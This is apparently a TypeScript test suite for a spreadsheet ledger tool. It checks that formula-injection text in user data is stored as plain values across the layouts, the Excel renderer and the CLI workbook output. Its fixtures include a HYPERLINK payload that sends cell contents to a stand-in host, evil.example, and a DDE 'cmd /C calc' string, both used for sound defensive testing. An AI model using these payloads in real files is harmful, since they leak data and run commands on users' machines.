/**
 * Issue 7, part 3: formula injection (OWASP "CSV injection"). Ledger text that starts with "=", "+", "-",
 * "@", a tab or a carriage return is data, and must reach every sheet and file the product writes as text:
 *  (a) the SheetLayout builders never put user text into a Formula (nor into rules, lists, names, titles
 *      that Excel evaluates);
 *  (b) the Office.js renderer, through the workflows, on the Excel fake (which turns "="-strings written
 *      through values/formulas into formulas, as Excel does) stores it as a value;
 *  (c) the CLI's workbook copy (compare -o) stores it as a string, on its own sheets and on the copy of a
 *      CSV ledger;
 *  (d) the product writes no CSV file (see the source scan at the end).
 */
import fc from "fast-check";
import fs from "fs";
import os from "os";
import path from "path";
import ExcelJS from "exceljs";
import { run } from "../../src/cli/cli";
import { createWorkflows } from "../../src/excel/workflows";
import { classifyLedger } from "../../src/model/categorise";
import { compare } from "../../src/model/comparison";
import { readLedger } from "../../src/model/grid";
import {
  categorisationLayout,
  categorisationRefs,
  comparisonLayout,
  isFormula,
  quoteSheet,
  sampleLayouts,
  SheetLayout,
  templateLayouts,
  trendLayout,
} from "../../src/model/layout";
import { Grid } from "../../src/model/types";
import { createFakeExcel, snapshotSheet } from "../fakes/excel-fake";
import { ok } from "./arbitraries";

const MARK = "INJ7";
const PREFIXES = ["=", "+", "-", "@", "\t=", "\r=", "=+", "-@"];

/** A hostile text: a formula prefix, something a formula would do, and MARK to find it again. */
const hostile: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom(...PREFIXES),
    fc.constantFrom(
      'HYPERLINK("https://evil.example/?x="&A1,"',
      "cmd|' /C calc'!A0 ",
      "SUM(1,2)+",
      "1+1&",
      "",
    ),
    fc.string({ maxLength: 8 }).map((s) => s.replace(/\s/g, "")),
  )
  .map(([p, body, tail]) => `${p}${body}${MARK}${tail}`);

/** Everything in a layout that Excel evaluates or names: formulas, rules, validation lists, table names. */
function evaluatedTexts(layout: SheetLayout): string[] {
  const out: string[] = [layout.name];
  for (const block of layout.blocks) {
    for (const row of block.cells) for (const c of row) if (isFormula(c)) out.push(c.formula);
    out.push(block.at, ...(block.numberFormats ?? []).filter((f): f is string => f !== null));
  }
  for (const t of layout.tables) out.push(t.name, t.range);
  for (const ch of layout.charts) out.push(ch.data, ch.from, ch.to);
  for (const cf of layout.conditionalFormats) {
    out.push(cf.range, cf.formula1, cf.formula2 ?? "", cf.expression ?? "");
  }
  for (const v of layout.validations) out.push(v.range, ...v.list);
  return out;
}

function textCells(layout: SheetLayout): string[] {
  return layout.blocks.flatMap((b) =>
    b.cells.flatMap((r) => r.filter((c): c is string => typeof c === "string")),
  );
}

function ledgerGrid(texts: string[]): Grid {
  const grid: Grid = [
    ["Omschrijving", "Bedrag", "Leverancier", "Grootboekrekening", "Kostenplaats", "Jaar", "Categorie"],
  ];
  texts.forEach((t, i) => grid.push([t, 1000 + i, t, t, t, i % 2 ? 2022 : 2023, i % 3 ? "" : t]));
  return grid;
}

describe("(a) the layout builders keep user text out of formulas", () => {
  it("categorisation, comparison and trend layouts over ledgers and key figures full of formula text", () => {
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 6 }), hostile, (texts, municipality) => {
        const read = readLedger(ledgerGrid(texts));
        const lines = classifyLedger(read.lines);
        const figures = [
          { year: 2022, municipality, inhabitants: 50_000, budget: 2e8, fteOwn: 20, fteHired: 5 },
          { year: 2023, municipality, inhabitants: 51_000 },
        ];
        const comparison = compare(lines, figures, { year: 2023 });
        const manual = new Map([[texts[0], texts[0]]]);
        const refs = categorisationRefs(`${MARK}'!A1+`, "nl");
        const layouts = [
          categorisationLayout(lines, { language: "nl", manual, undatedYear: 2023 }),
          comparisonLayout(
            comparison,
            { categorisation: refs, inhabitants: 51_000 },
            { language: "nl", keyFigures: figures[1] },
          ),
          trendLayout(comparison.series, {
            language: "en",
            refs: { categorisation: refs, inhabitants: { 2022: 50_000, 2023: 51_000 } },
            figures,
          }),
        ];
        let shown = 0;
        for (const layout of layouts) {
          for (const text of evaluatedTexts(layout)) {
            // The one way user text may enter a formula: a sheet name, always quoted with ' doubled.
            const unquoted = text.split(quoteSheet(`${MARK}'!A1+`)).join("");
            ok(
              !unquoted.includes(MARK),
              () => `user text evaluated in ${layout.role}: ${JSON.stringify(text)}`,
            );
          }
          shown += textCells(layout).filter((t) => t.includes(MARK)).length;
        }
        // The descriptions are on the categorisation sheet, as text: the property can fail.
        ok(shown >= texts.length, `only ${shown} hostile texts shown`);
      }),
      { numRuns: 300 },
    );
  });

  it("the template and sample layouts hold no formula text in their literal cells", () => {
    for (const layout of [...templateLayouts("nl"), ...sampleLayouts("en")]) {
      for (const text of textCells(layout))
        expect({ text, starts: /^[=+\-@\t\r]/.test(text) }).toEqual({ text, starts: false });
    }
  });
});

function hostileExamples(): string[] {
  return PREFIXES.map((p, i) => `${p}HYPERLINK("https://evil.example/${MARK}${i}","klik")`);
}

/** As a user's sheet holds such text: typed with a leading apostrophe, so Excel keeps it as text. */
function asTyped(grid: Grid): Grid {
  return grid.map((row) => row.map((v) => (typeof v === "string" && /^[=+\-@]/.test(v) ? `'${v}` : v)));
}

describe("(b) the Office.js renderer through the workflows, on the Excel fake", () => {
  it("rebuildAll writes hostile ledger text and municipality names as values, never as formulas", async () => {
    const texts = hostileExamples();
    const fake = createFakeExcel({ sheets: ["Grootboek", "Kerngegevens"] });
    const setUser = (sheet: string, rows: Grid) =>
      fake.Excel.run(async (context) => {
        const range = context.workbook.worksheets
          .getItem(sheet)
          .getRangeByIndexes(0, 0, rows.length, Math.max(...rows.map((r) => r.length)));
        range.values = rows as unknown[][] as (string | number | boolean)[][];
        await context.sync();
      });
    await setUser("Grootboek", asTyped(ledgerGrid(texts)));
    await setUser(
      "Kerngegevens",
      asTyped([
        ["Gemeente", texts[0]],
        ["Jaar", 2023],
        ["Inwoners", 51_000],
      ]),
    );
    const wf = createWorkflows({ run: fake.Excel.run, settings: fake.Office.context.document.settings });
    const result = await wf.rebuildAll({ language: "nl" });
    expect(result.ok).toBe(true);
    expect(result.sheets.length).toBeGreaterThanOrEqual(2);
    const seen = new Set<string>();
    for (const name of result.sheets) {
      for (const [address, cell] of Object.entries(snapshotSheet(fake, name).cells)) {
        expect({ name, address, formula: cell.formula?.includes(MARK) ?? false }).toEqual({
          name,
          address,
          formula: false,
        });
        if (typeof cell.value === "string" && cell.value.includes(MARK)) seen.add(cell.value);
      }
    }
    // Every hostile description arrives, as the very text the user typed (trimmed of the tab/CR).
    for (const t of texts) expect(seen).toContain(t.trim());
  });
});

describe("(c) the CLI's workbook copy (compare -o)", () => {
  let dir: string;
  beforeAll(() => (dir = fs.mkdtempSync(path.join(os.tmpdir(), "ictcost-injection-"))));
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  it("a CSV ledger with formula text: every cell of the copy holding it is a string, on every sheet", async () => {
    const texts = hostileExamples().map((t) => t.replace(/"/g, "'")); // CSV quoting is not the point here
    const csv = ledgerGrid(texts)
      .map((row) => row.map((v) => `"${String(v).replace(/"/g, '""')}"`).join(";"))
      .join("\r\n");
    const input = path.join(dir, "grootboek.csv");
    const out = path.join(dir, "uit.xlsx");
    fs.writeFileSync(input, csv);
    const r = await run(["compare", input, "--inhabitants", "50000", "--year", "2023", "-o", out]);
    expect({ exitCode: r.exitCode, stderr: r.stderr }).toEqual({
      exitCode: 0,
      stderr: expect.stringContaining(out),
    });

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(out);
    const seen = new Set<string>();
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          const formula = cell.formula ?? "";
          expect({ sheet: ws.name, cell: cell.address, formula: formula.includes(MARK) }).toEqual({
            sheet: ws.name,
            cell: cell.address,
            formula: false,
          });
          if (typeof cell.value === "string" && cell.value.includes(MARK)) {
            expect(cell.type).toBe(ExcelJS.ValueType.String);
            seen.add(`${ws.name}|${cell.value}`);
          }
        }),
      );
    }
    const sheetsWithText = new Set([...seen].map((s) => s.split("|")[0]));
    expect(sheetsWithText.size).toBeGreaterThanOrEqual(2); // the ledger's copy and ICT-categorisatie
    for (const t of texts) expect([...seen].some((s) => s.endsWith(`|${t.trim()}`))).toBe(true);
  });
});

describe("(d) the product writes no CSV file", () => {
  it("no source file writes .csv or joins cells with a delimiter into a file", () => {
    const writers: string[] = [];
    const walk = (d: string) => {
      for (const e of fs.readdirSync(d, { withFileTypes: true })) {
        const p = path.join(d, e.name);
        if (e.isDirectory()) walk(p);
        else if (/\.ts$/.test(e.name)) {
          const src = fs.readFileSync(p, "utf8");
          if (/writeFile|createWriteStream|\.csv\.write|stringify\s*\(.*csv/i.test(src))
            writers.push(path.relative(".", p));
        }
      }
    };
    walk(path.join(__dirname, "../../src"));
    // The only file writers are the workbook copy's bytes (src/cli/ooxml, written by safeWrite.writeBytes)
    // and the template (ExcelJS), reviewed in (c); no CSV writer exists.
    expect(writers.sort()).toEqual(["src/cli/safeWrite.ts", "src/cli/writeXlsx.ts"]);
  });
});
